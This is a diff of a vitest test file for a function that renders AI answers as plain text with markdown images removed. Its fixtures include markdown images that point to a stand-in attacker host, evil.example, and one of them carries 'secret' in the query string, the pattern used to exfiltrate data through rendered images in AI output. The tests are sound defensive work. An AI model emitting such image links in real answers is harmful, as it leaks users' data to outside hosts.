@@ -4,7 +4,7 @@ import { describe, expect, test } from 'vitest';
 import { parse } from '#shared/domain/books/markdown/parse.ts';
 import { plainAnswer } from './plain-answer.ts';
 
-describe('An answer of the AI', () => {
+describe('AI answer', () => {
   test('shows no picture: its description stays', () => {
     expect(plainAnswer('See ![the *map*](https://evil.example/?q=secret) here.')).toBe('See the map here.');
     expect(plainAnswer('![a][p]\n\n[p]: https://evil.example/x.png')).not.toContain('evil');
